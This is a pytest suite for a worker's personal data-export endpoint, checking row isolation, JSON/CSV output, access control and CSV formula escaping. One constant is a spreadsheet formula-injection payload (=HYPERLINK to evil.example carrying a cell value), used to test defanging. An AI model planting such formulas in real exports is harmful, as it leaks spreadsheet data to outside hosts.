"""GET /api/v1/me/export: a cadre's zip of their own data, by bearer token or by their phone,
with only their own rows, JSON that parses, CSV a spreadsheet cannot run, a README, and
nothing in the access log; other roles are refused."""
from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from datetime import date, timedelta

import pytest
from sqlalchemy import func, select

from fieldapp.extensions import db
from fieldapp.models import AccessLog, Finding, Ping
from fieldapp.services.people import my_data
from tests import media_files as files

from .helpers import TOWNSHIP, VILLAGE, cadre_login, login, make_cadre, make_user
from .ping_helpers import page_phone
from .presence_helpers import east_of, inside, iso_week, last_full_week, send, week_of

TABLES = ("fixes", "media", "work_reports", "day_records", "period_summaries", "findings",
          "finding_events", "appeals", "leave")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def export(client, headers) -> zipfile.ZipFile:
    response = client.get("/api/v1/me/export", headers=headers)
    assert response.status_code == 200, response.get_json()
    assert response.mimetype == "application/zip"
    assert "attachment" in response.headers["Content-Disposition"]
    return zipfile.ZipFile(io.BytesIO(response.data))


def table(archive: zipfile.ZipFile, name: str) -> tuple[list[dict], list[dict]]:
    """(the JSON rows, the CSV rows) of one table; the CSV starts with a BOM."""
    rows = json.loads(archive.read(f"{name}.json").decode("utf-8"))
    text = archive.read(f"{name}.csv").decode("utf-8")
    assert text.startswith("\ufeff")
    return rows, list(csv.DictReader(io.StringIO(text[1:])))


def ping_ids(cadre_id: int) -> set[int]:
    return set(db.session.scalars(select(Ping.id).where(Ping.cadre_id == cadre_id)))


@pytest.fixture()
def two_cadres(client, ctx, configure):
    """Last week of a commuter with a login and a phone (their not_resident finding
    confirmed and appealed, a photo, a leave request), and of a neighbour in the same
    village; evaluated."""
    configure(MAX_BACKFILL_DAYS=60, LATE_UPLOAD_HOURS=24 * 90.0)
    week = last_full_week()
    cadre, headers = cadre_login(client, "commuter", name="通勤")
    neighbour, neighbour_phone = page_phone(name="李娜")
    send(cadre.id, week_of(week, inside(VILLAGE), east_of(VILLAGE, 5000)))
    send(neighbour.id, week_of(week, inside(VILLAGE), inside(VILLAGE)))
    make_user("admin", "admin")
    make_user("insp", "inspector", regions=[TOWNSHIP])
    admin, insp = login(client, "admin"), login(client, "insp")
    assert client.post("/api/v1/evaluations", headers=admin,
                       json={"week": iso_week(week)}).status_code == 200
    (flag_id,) = db.session.scalars(select(Finding.id).where(
        Finding.cadre_id == cadre.id, Finding.kind == "not_resident"))
    for action in ("assign", "confirm"):
        assert client.post(f"/api/v1/flags/{flag_id}/transitions", headers=insp, json={
            "action": action, "note": "checked"}).status_code == 200
    assert client.post(f"/api/v1/flags/{flag_id}/appeal", headers=headers, json={
        "text": FORMULA}).status_code == 200
    start = date.today() + timedelta(days=3)
    assert client.post("/api/v1/leaves", headers=headers, json={
        "kind": "personal", "starts_on": start.isoformat(), "ends_on": start.isoformat(),
        "reason": "+1 家中有事"}).status_code == 201
    photo = client.post("/api/v1/media", headers=headers, data={
        "id": str(uuid.uuid4()), "recorded_at": f"{date.today()}T08:00:00+08:00",
        "file": (io.BytesIO(files.png(files.scene(2))), "p.png")},
        content_type="multipart/form-data")
    assert photo.status_code == 201, photo.get_json()
    return {"cadre": cadre, "headers": headers, "neighbour": neighbour,
            "neighbour_phone": neighbour_phone, "flag_id": flag_id, "admin": admin,
            "insp": insp, "photo": photo.get_json()}


def test_the_zip_holds_my_rows_only_as_json_and_csv(client, ctx, two_cadres):
    cadre = two_cadres["cadre"]
    archive = export(client, two_cadres["headers"])
    assert sorted(archive.namelist()) == sorted(
        ["README.txt"] + [f"{t}.{ext}" for t in TABLES for ext in ("json", "csv")])
    readme = archive.read("README.txt").decode("utf-8")
    assert "定位记录" in readme and "Location fixes" in readme
    fixes, fix_cells = table(archive, "fixes")
    assert {row["id"] for row in fixes} == ping_ids(cadre.id) != set()
    assert not {row["id"] for row in fixes} & ping_ids(two_cadres["neighbour"].id)
    assert [int(row["id"]) for row in fix_cells] == [row["id"] for row in fixes]
    assert [row["recorded_at"] for row in fixes] == sorted(row["recorded_at"] for row in fixes)
    findings, _ = table(archive, "findings")
    assert two_cadres["flag_id"] in {row["id"] for row in findings}
    assert all(row["region_code"] == VILLAGE for row in findings)
    events, _ = table(archive, "finding_events")
    assert {row["flag_id"] for row in events} == {row["id"] for row in findings}
    assert [e["action"] for e in events if e["flag_id"] == two_cadres["flag_id"]] == [
        "raise", "assign", "confirm", "appeal"]
    days, day_cells = table(archive, "day_records")
    assert len(days) == len(day_cells) == 7
    periods, _ = table(archive, "period_summaries")
    assert len(periods) == 1 and periods[0]["required_nights"] == 4
    media, media_cells = table(archive, "media")
    assert [row["id"] for row in media] == [two_cadres["photo"]["id"]]
    assert json.loads(media_cells[0]["checks"]) == media[0]["checks"]


def test_cells_a_spreadsheet_would_run_are_text(client, ctx, two_cadres):
    archive = export(client, two_cadres["headers"])
    appeals, appeal_cells = table(archive, "appeals")
    assert appeals[0]["text"] == FORMULA  # the JSON keeps what was written
    assert appeal_cells[0]["text"] == "'" + FORMULA
    leave, leave_cells = table(archive, "leave")
    assert leave_cells[0]["reason"] == "'+1 家中有事" and leave[0]["reason"] == "+1 家中有事"


def test_a_phone_exports_its_cadres_data(client, ctx, two_cadres):
    neighbour = two_cadres["neighbour"]
    archive = export(client, two_cadres["neighbour_phone"])
    fixes, _ = table(archive, "fixes")
    assert {row["id"] for row in fixes} == ping_ids(neighbour.id) != set()
    assert table(archive, "appeals")[0] == [] and table(archive, "leave")[0] == []


def test_my_export_is_not_in_the_access_log(client, ctx, two_cadres):
    before = db.session.scalar(select(func.count()).select_from(AccessLog))
    export(client, two_cadres["headers"])
    export(client, two_cadres["neighbour_phone"])
    assert db.session.scalar(select(func.count()).select_from(AccessLog)) == before


def test_fixes_are_read_page_by_page(client, ctx, two_cadres, monkeypatch):
    monkeypatch.setattr(my_data, "PAGE", 3)
    fixes, cells = table(export(client, two_cadres["headers"]), "fixes")
    assert {row["id"] for row in fixes} == ping_ids(two_cadres["cadre"].id)
    assert len(fixes) == len(cells) == len(ping_ids(two_cadres["cadre"].id)) > 3


def test_a_reused_photo_does_not_name_the_other_cadres_upload(client, ctx):
    _, first = cadre_login(client, "first")
    _, second = cadre_login(client, "second", name="王芳")
    data = files.png(files.scene(9))
    for headers in (first, second):
        assert client.post("/api/v1/media", headers=headers, data={
            "id": str(uuid.uuid4()), "recorded_at": f"{date.today()}T08:00:00+08:00",
            "file": (io.BytesIO(data), "p.png")},
            content_type="multipart/form-data").status_code == 201
    archive = export(client, second)
    media, _ = table(archive, "media")
    findings, _ = table(archive, "findings")
    assert media[0]["checks"]["reuse"] == {"failed": True}
    assert [f["kind"] for f in findings] == ["photo_reused"]
    assert findings[0]["evidence"]["check"] == {"failed": True}


def test_a_cadre_with_nothing_gets_a_valid_empty_zip(client, ctx):
    _, headers = cadre_login(client)
    archive = export(client, headers)
    assert archive.testzip() is None
    for name in TABLES:
        rows, cells = table(archive, name)
        assert rows == [] and cells == []
        header = archive.read(f"{name}.csv").decode("utf-8")[1:].strip()
        assert header.split(",") == list(my_data.TABLES[name][1])


@pytest.mark.parametrize("role", ["admin", "inspector", "discipline"])
def test_it_is_the_cadres_own_export(client, ctx, role):
    make_cadre()
    make_user("someone", role, regions=None if role == "admin" else ["410922"])
    assert client.get("/api/v1/me/export",
                      headers=login(client, "someone")).status_code == 403


def test_no_login_or_an_unknown_phone_is_refused(client, ctx):
    assert client.get("/api/v1/me/export").status_code == 401
    assert client.get("/api/v1/me/export",
                      headers={"Authorization": "Device not-a-token"}).status_code == 401
